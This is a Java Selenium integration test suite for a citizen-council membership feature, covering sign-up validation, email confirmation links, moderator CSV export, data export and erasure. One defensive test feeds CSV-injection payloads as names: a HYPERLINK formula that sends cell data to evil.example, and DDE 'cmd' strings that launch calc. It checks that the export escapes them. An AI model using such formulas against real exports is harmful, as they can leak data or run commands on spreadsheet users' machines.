package fr.chambery.cqc.web.membership;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.GreenMailUtil;
import com.icegreen.greenmail.util.ServerSetup;
import fr.chambery.cqc.web.DeployedApplication;
import fr.chambery.cqc.web.Http;
import fr.chambery.cqc.web.browser.Browser;
import fr.chambery.cqc.web.browser.StaffSignIn;
import jakarta.mail.internet.MimeMessage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebElement;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Signing up to a council in Chromium, with a real SMTP server in the test process (GreenMail) whose
 * messages the test reads: the form and its refusals, the confirmation link, the moderators' list, CSV
 * and e-mail, then leaving, exporting and erasing from the link of an e-mail. Every page checked by axe-core.
 * Each test names one behaviour on a council of its own.
 */
class MembershipBrowserIT extends DeployedApplication {

    @RegisterExtension
    static final GreenMailExtension MAIL = new GreenMailExtension(new ServerSetup(Integer.getInteger("cqc.it.mail-port", 3025), "127.0.0.1", ServerSetup.PROTOCOL_SMTP));

    private static final Pattern LINK = Pattern.compile("(https?://\\S+/membership/(?:confirm|manage)\\?token=[A-Za-z0-9_-]+)");

    private final List<Browser> browsers = new ArrayList<>();
    private Http http;
    private String suffix;
    private String council;
    private String email;

    @BeforeEach
    void setUp() {
        http = new Http(url);
        suffix = UUID.randomUUID().toString().substring(0, 8);
        council = "cqc-" + suffix;
        email = "camille-" + suffix + "@example.org";
        http.post("api/test-fixtures/assemblies?slug=" + council + "&components=membership,meetings");
        http.post("api/test-fixtures/assemblies/" + council + "/working-groups?name=Jardins%20partag%C3%A9s");
    }

    @AfterEach
    void closeBrowsers() {
        browsers.forEach(Browser::close);
    }

    @Test
    void underTheEnglishInterfaceTheSignUpFormsErrorsAreInEnglishAndTiedToTheirFields() {
        Browser citizen = browser();
        citizen.open("membership/sign-up?council=" + council + "&lang=en");
        assertThat(citizen.find(By.cssSelector(".required-legend")).getText()).isEqualTo("Fields marked with an asterisk (*) are required.");
        citizen.press(citizen.find(By.id("submit")));
        assertThat(citizen.findAll(By.cssSelector(".field-error"))).extracting(WebElement::getText).containsExactlyInAnyOrder(
                "Name or first name: Enter your name or first name.",
                "E-mail address: This e-mail address is not valid (example: first.last@example.org).",
                "Date of birth: Enter your date of birth: sign-up is open from the age of 16.",
                "Your link with the neighbourhood: Say whether you live in Chambéry or regularly spend time in the neighbourhood.",
                "I agree to the processing of my personal data: Your agreement to the processing of your data is needed to sign up.");
        assertThat(citizen.findAll(By.cssSelector(".field-error"))).allSatisfy(error -> assertThat(citizen.languageOf(error)).isEqualTo("en"));
        citizen.assertErrorsLinkedAndFocused();
        assertThat(MAIL.getReceivedMessages()).isEmpty();
    }

    @Test
    void theCouncilsPageInvitesToSignUpOnAFormMarkedForKeyboardAndAutofill() {
        Browser citizen = browser();
        citizen.open("assemblies/" + council);
        assertThat(citizen.find(By.cssSelector("section.membership-block")).getText()).contains("Aucun membre pour le moment");
        citizen.follow(citizen.find(By.cssSelector("section.membership-block a.button")));

        assertThat(citizen.autocompleteOf("name")).isEqualTo("name");
        assertThat(citizen.autocompleteOf("email")).isEqualTo("email");
        assertThat(citizen.autocompleteOf("birthDate")).isEqualTo("bday");
        citizen.assertRequiredMarked("name", "email", "birthDate", "consent");
        assertThat(citizen.tabThrough(By.id("signup"), By.id("submit"))).contains("J'habite Chambéry", "Jardins partagés");
    }

    @Test
    void anEmptySignUpIsRefusedInFrenchFieldByFieldAndNothingIsSent() {
        Browser citizen = browser();
        citizen.open("membership/sign-up?council=" + council);
        citizen.press(citizen.find(By.id("submit")));
        assertThat(citizen.findAll(By.cssSelector(".field-error"))).extracting(WebElement::getText).containsExactlyInAnyOrder(
                "Nom ou prénom : Indiquez votre nom ou votre prénom.",
                "Adresse e-mail : Cette adresse e-mail n'est pas valide (exemple : prenom.nom@example.org).",
                "Date de naissance : Indiquez votre date de naissance : l'inscription est ouverte à partir de 16 ans.",
                "Votre lien avec le quartier : Dites si vous habitez Chambéry ou si vous fréquentez régulièrement le quartier.",
                "J'accepte le traitement de mes données personnelles : Votre accord au traitement de vos données est nécessaire pour vous inscrire.");
        citizen.assertErrorsLinkedAndFocused();
        assertThat(MAIL.getReceivedMessages()).isEmpty();
    }

    @Test
    void aPersonUnderSixteenIsRefusedNothingSentThenSignsUpOnceTheDateIsRight() {
        Browser citizen = browser();
        citizen.open("membership/sign-up?council=" + council);
        fill(citizen, "Camille", email, LocalDate.now().minusYears(15));
        citizen.press(citizen.find(By.id("submit")));
        assertThat(citizen.find(By.cssSelector(".field-error")).getText()).isEqualTo("Date de naissance : L'inscription à un conseil de quartier citoyen est ouverte à partir de 16 ans.");
        assertThat(MAIL.getReceivedMessages()).as("nothing sent, nothing stored").isEmpty();

        setValue(citizen, "birthDate", LocalDate.now().minusYears(30).toString());
        citizen.press(citizen.find(By.id("submit")));
        assertThat(citizen.find(By.id("sent")).getText()).isEqualTo("Vérifiez votre boîte de réception");
    }

    @Test
    void aSignUpIsConfirmedByTheLinkOfItsEmailAndASecondSignUpSendsANewLink() throws Exception {
        signUp("Camille", email);
        MimeMessage confirmation = nextMail();
        assertThat(confirmation.getSubject()).isEqualTo("Confirmez votre inscription au Espace " + council);
        assertThat(confirmation.getAllRecipients()[0].toString()).isEqualTo(email);
        String confirm = link(confirmation, "confirm");

        signUpAgain(email);
        String secondConfirm = link(nextMail(), "confirm");
        assertThat(secondConfirm).isNotEqualTo(confirm);
    }

    @Test
    void aConfirmationLinkServesOnceAndTheCouncilThenCountsItsMember() {
        Browser citizen = browser();
        String confirm = confirmedMember(citizen);
        citizen.open(confirm.substring(url.toString().length()));
        citizen.press(citizen.find(By.id("confirmButton")));
        assertThat(citizen.find(By.cssSelector(".form-errors")).getText()).contains("Ce lien de confirmation n'est plus valable");

        citizen.open("assemblies/" + council);
        assertThat(citizen.find(By.cssSelector(".membership-count")).getText()).isEqualTo("1 membre");
    }

    @Test
    void aModeratorListsTheMembersAndExportsThemAsACsvWithAByteOrderMark() {
        confirmedMember(browser());
        Browser moderator = moderatorOnTheMembersBoard();
        assertThat(moderator.findAll(By.cssSelector("table.admin-table tbody tr"))).hasSize(1);
        assertThat(moderator.find(By.cssSelector("table.admin-table tbody")).getText())
                .contains("Camille", email, "habitant·e", "Jardins partagés", "inscription confirmée");
        String csv = (String) ((JavascriptExecutor) moderator.driver()).executeAsyncScript(
                "const done = arguments[arguments.length - 1]; fetch(document.getElementById('csv').href).then(r => r.text()).then(done);");
        assertThat(csv).as("the second sign-up updated the pending one").startsWith("\"nom\";\"e-mail\";\"lien au quartier\";\"groupes de travail\";\"inscription\";\"confirmation\"")
                .contains("\"Camille Exemple\";\"" + email + "\";\"habitant·e\";\"Jardins partagés\";");
        assertThat(((JavascriptExecutor) moderator.driver()).executeAsyncScript(
                "const done = arguments[arguments.length - 1]; fetch(document.getElementById('csv').href)"
                        + ".then(r => r.arrayBuffer()).then(b => done(Array.from(new Uint8Array(b).slice(0, 3))));"))
                .as("a UTF-8 byte order mark, for spreadsheets").isEqualTo(List.of(239L, 187L, 191L));
    }

    @Test
    void aModeratorWritesToTheMembersWhoReceiveTheMessage() throws Exception {
        confirmedMember(browser());
        Browser moderator = moderatorOnTheMembersBoard();
        moderator.find(By.id("subject")).sendKeys("Plénière de rentrée");
        moderator.find(By.id("message")).sendKeys("Rendez-vous mardi à 18 h 30.");
        moderator.press(moderator.find(By.id("send")));
        assertThat(moderator.find(By.cssSelector(".flash")).getText()).contains("Le message est envoyé à 1 membre.");
        MimeMessage announcement = nextMail();
        assertThat(announcement.getSubject()).isEqualTo("[Espace " + council + "] Plénière de rentrée");
        assertThat(GreenMailUtil.getBody(announcement)).contains("Rendez-vous mardi");
        assertThat(link(announcement, "manage")).as("each message carries the member's own link").contains("/membership/manage?token=");
    }

    @Test
    void aMemberExportsTheirDataThenLeavesTheCouncilFromTheLinkOfAnEmail() {
        Browser citizen = browser();
        confirmedMember(citizen);
        String manage = link(MAIL.getReceivedMessages()[read - 1], "manage");

        citizen.open(manage.substring(url.toString().length()));
        assertThat(citizen.find(By.cssSelector(".membership-list")).getText()).contains("Espace " + council, "inscription confirmée");
        String data = (String) ((JavascriptExecutor) citizen.driver()).executeAsyncScript(
                "const done = arguments[arguments.length - 1]; fetch(document.getElementById('export').href).then(r => r.text()).then(done);");
        assertThat(data).contains("\"email\": \"" + email + "\"", "\"name\": \"Camille Exemple\"", "Jardins partagés", "\"consentVersion\"");
        citizen.press(citizen.find(By.cssSelector("input[aria-label='Quitter Espace " + council + "']")));
        assertThat(citizen.find(By.cssSelector(".form-errors")).getText()).contains("Vous avez quitté ce conseil");
        citizen.open("assemblies/" + council);
        assertThat(citizen.find(By.cssSelector(".membership-count")).getText()).isEqualTo("Aucun membre pour le moment");
    }

    @Test
    void anExpiredOrUsedLinkReadsInEnglishUnderTheEnglishInterface() {
        Browser citizen = browser();
        String confirm = confirmedMember(citizen);
        citizen.open(confirm.substring(url.toString().length()) + "&lang=en");
        citizen.press(citizen.find(By.id("confirmButton")));
        assertThat(citizen.find(By.cssSelector(".form-errors")).getText())
                .contains("This confirmation link is no longer valid: it was already used or it expired (48 hours).")
                .doesNotContain("Ce lien");
    }

    @Test
    void aPersonErasesAllTheirDataFromTheLinkOfAnEmail() throws Exception {
        String other = council + "-b";
        http.post("api/test-fixtures/assemblies?slug=" + other + "&components=membership");
        signUpAgain(email);
        String gestion = link(nextMail(), "manage");
        Browser citizen = browser();
        citizen.open("membership/sign-up?council=" + other);
        fill(citizen, "Camille", email, LocalDate.now().minusYears(40));
        citizen.press(citizen.find(By.id("submit")));
        assertThat(citizen.findAll(By.id("sent"))).as("sent, not refused: %s", citizen.find(By.tagName("main")).getText()).isNotEmpty();
        nextMail();

        citizen.open(gestion.substring(url.toString().length()));
        assertThat(citizen.findAll(By.cssSelector(".membership-list li"))).hasSize(2);
        citizen.press(citizen.find(By.id("erase")));
        assertThat(citizen.find(By.cssSelector(".form-errors")).getText()).contains("Vos données sont effacées (2 inscriptions).");
        citizen.open(gestion.substring(url.toString().length()));
        assertThat(citizen.find(By.cssSelector(".form-errors")).getText()).contains("Ce lien n'est plus valable");
        assertThat(http.get("membership/export?token=" + gestion.substring(gestion.indexOf("token=") + 6), "application/json").statusCode()).isEqualTo(404);
    }

    @Test
    void unknownOrUnpublishedCouncilsTakeNoSignUp() {
        String hidden = council + "-h";
        http.post("api/test-fixtures/assemblies?slug=" + hidden + "&components=membership&published=false");
        assertThat(http.get("membership/sign-up?council=" + hidden, "text/html").statusCode()).isEqualTo(404);
        assertThat(http.get("membership/sign-up?council=inconnu-" + suffix, "text/html").statusCode()).isEqualTo(404);
        assertThat(http.get("membership/sign-up?council=conseils-de-quartier-citoyens", "text/html").statusCode())
                .as("the demo assembly's councils take sign-ups").isEqualTo(200);
        assertThat(http.get("api/assemblies/" + council, "application/json").body()).doesNotContain("@example.org");
    }

    /** CSV injection (OWASP): a name typed as a formula reaches the moderators' spreadsheet as text. */
    @Test
    void aSignUpNamedLikeAFormulaReachesTheModeratorsExportAsText() throws Exception {
        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&B2;\"Cliquez\")", "+33 6 12 34 56 78",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Camille ;=1+1");
        for (int i = 0; i < names.size(); i++) {
            Browser browser = browser();
            browser.open("membership/sign-up?council=" + council);
            browser.find(By.id("name")).sendKeys(names.get(i));
            browser.find(By.id("email")).sendKeys("formule-" + i + "-" + suffix + "@example.org");
            setValue(browser, "birthDate", LocalDate.now().minusYears(30).toString());
            ((JavascriptExecutor) browser.driver()).executeScript("document.querySelector(\"input[name='lien'][value='HABITANT']\").checked = true;"
                    + " document.getElementById('consent').checked = true;");
            browser.press(browser.find(By.id("submit")));
            assertThat(browser.find(By.id("sent")).getText()).isEqualTo("Vérifiez votre boîte de réception");
        }

        Browser moderator = StaffSignIn.signIn(url, http, "MODERATEUR", council);
        browsers.add(moderator);
        moderator.open("admin/members?space=" + council);
        String csv = (String) ((JavascriptExecutor) moderator.driver()).executeAsyncScript(
                "const done = arguments[arguments.length - 1]; fetch(document.getElementById('csv').href).then(r => r.text()).then(done);");
        List<String> exported;
        try (var parser = org.apache.commons.csv.CSVFormat.Builder.create(org.apache.commons.csv.CSVFormat.EXCEL).setDelimiter(';')
                .setHeader().setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.replaceFirst("^\ufeff", "")))) {
            exported = parser.getRecords().stream().map(r -> r.get("nom")).toList();
        }

        assertThat(exported).containsExactlyInAnyOrder("'" + names.get(0), "'" + names.get(1), "'" + names.get(2), "'" + names.get(3),
                names.get(4));
        assertThat(csv).as("the separator stays inside its quoted cell").contains("\"Camille ;=1+1\"");
    }

    /**
     * Signs Camille up twice (the second sign-up, as « Camille Exemple », updates the pending one) and
     * confirms with the second link in {@code citizen}'s browser; answers the link used.
     */
    private String confirmedMember(Browser citizen) {
        signUp("Camille", email);
        nextMail();
        signUpAgain(email);
        String confirm = link(nextMail(), "confirm");
        citizen.open(confirm.substring(url.toString().length()));
        citizen.press(citizen.find(By.id("confirmButton")));
        assertThat(citizen.find(By.id("confirmed")).getText()).isEqualTo("Votre inscription au Espace " + council + " est confirmée. Bienvenue !");
        return confirm;
    }

    private Browser moderatorOnTheMembersBoard() {
        Browser moderator = StaffSignIn.signIn(url, http, "MODERATEUR", council);
        browsers.add(moderator);
        moderator.follow(moderator.find(By.cssSelector("a[href$='/admin/members?space=" + council + "']")));
        return moderator;
    }

    private void signUpAgain(String address) {
        signUp("Camille Exemple", address);
    }

    private void signUp(String name, String address) {
        Browser browser = browser();
        browser.open("membership/sign-up?council=" + council);
        fill(browser, name, address, LocalDate.now().minusYears(30));
        browser.press(browser.find(By.id("submit")));
        assertThat(browser.findAll(By.id("sent"))).as("sent, not refused: %s", browser.find(By.tagName("main")).getText()).isNotEmpty();
        assertThat(browser.find(By.id("sent")).getText()).isEqualTo("Vérifiez votre boîte de réception");
    }

    private static void fill(Browser browser, String name, String address, LocalDate birth) {
        browser.find(By.id("name")).clear();
        browser.find(By.id("name")).sendKeys(name);
        browser.find(By.id("email")).clear();
        browser.find(By.id("email")).sendKeys(address);
        setValue(browser, "birthDate", birth.toString());
        browser.find(By.cssSelector("input[name='lien'][value='HABITANT']")).click();
        browser.findAll(By.cssSelector("input[name='groups']")).forEach(browser::tick);
        browser.tick(browser.find(By.id("consent")));
    }

    private static void setValue(Browser browser, String id, String value) {
        ((JavascriptExecutor) browser.driver()).executeScript("document.getElementById(arguments[0]).value = arguments[1];", id, value);
    }

    private Browser browser() {
        Browser browser = new Browser(url);
        browsers.add(browser);
        return browser;
    }

    private int read;

    /** The next message the SMTP server received, waiting for it if need be. */
    private MimeMessage nextMail() {
        assertThat(MAIL.waitForIncomingEmail(10_000, read + 1)).as("an e-mail arrives").isTrue();
        return MAIL.getReceivedMessages()[read++];
    }

    private static String link(MimeMessage message, String kind) {
        Matcher m = LINK.matcher(GreenMailUtil.getBody(message).replace("=\r\n", "").replace("=3D", "="));
        List<String> links = new ArrayList<>();
        while (m.find()) {
            links.add(m.group(1));
        }
        return links.stream().filter(l -> l.contains("/membership/" + kind + "?")).findFirst()
                .orElseThrow(() -> new AssertionError("No " + kind + " link in " + Arrays.toString(links.toArray())));
    }
}
